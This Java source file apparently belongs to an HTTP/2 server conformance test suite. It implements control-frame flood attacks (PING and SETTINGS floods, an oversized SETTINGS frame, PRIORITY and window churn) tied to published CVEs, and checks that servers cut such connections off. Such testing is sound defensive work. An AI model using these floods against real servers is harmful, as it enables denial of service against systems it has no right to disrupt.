package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Reading;
import java.io.IOException;

/** Frames of a few octets that the server must answer or apply, sent without end. */
enum ControlFlood implements Attack {
  /** The server must acknowledge each one, and the attacker does not read. */
  PING("ping-flood", Reading.NEVER, "too_many_pings", "2019-9512"),
  /** The same; in addition the server must apply each one. */
  SETTINGS("settings-flood", Reading.NEVER, "too many SETTINGS", "2019-9515"),
  /** Thousands of settings in one frame. */
  SETTINGS_BOMB("settings-bomb", Reading.EAGER, "SETTINGS has more than", "2020-11080"),
  /** A priority tree that is rearranged again and again. */
  PRIORITY("priority-churn", Reading.EAGER, "too many PRIORITY", "2019-9513"),
  /** The windows of all streams are widened and narrowed in turn. */
  WINDOW_CHURN("window-churn", Reading.EAGER, "too many SETTINGS", "");

  private static final int IDS = 1000;
  private static final int BOMB_ENTRIES = 2700; // as many as fit into 16 KiB
  private static final int UNKNOWN_SETTING = 0xf000;

  private final String name;
  private final Reading reading;
  private final String reason;
  private final String cve;

  ControlFlood(String name, Reading reading, String reason, String cve) {
    this.name = name;
    this.reading = reading;
    this.reason = reason;
    this.cve = cve;
  }

  @Override
  public AttackDescription description() {
    return AttackDescription.cutOff(
            reason,
            name,
            "RFC 9113 §10.5",
            "counts them, and stops reading before unread answers pile up")
        .published(cve);
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect(reading);
    for (int i = 0; front.goesOn(connection); i++) {
      connection.send(frame(i));
    }
  }

  private byte[] frame(int i) {
    return switch (this) {
      case PING -> Frames.ping(i);
      case SETTINGS -> Frames.settings();
      case SETTINGS_BOMB -> bomb();
      case PRIORITY -> Frames.priority(2 * (i % IDS) + 1, 2 * ((i * 31 + 7) % IDS) + 3, i & 0xff);
      case WINDOW_CHURN ->
          Frames.settings(Frames.INITIAL_WINDOW_SIZE, i % 2 == 0 ? Frames.LARGEST_WINDOW : 0);
    };
  }

  private static byte[] bomb() {
    int[] entries = new int[2 * BOMB_ENTRIES];
    for (int i = 0; i < BOMB_ENTRIES; i++) {
      entries[2 * i] = UNKNOWN_SETTING + i % IDS;
      entries[2 * i + 1] = i;
    }
    return Frames.settings(entries);
  }
}
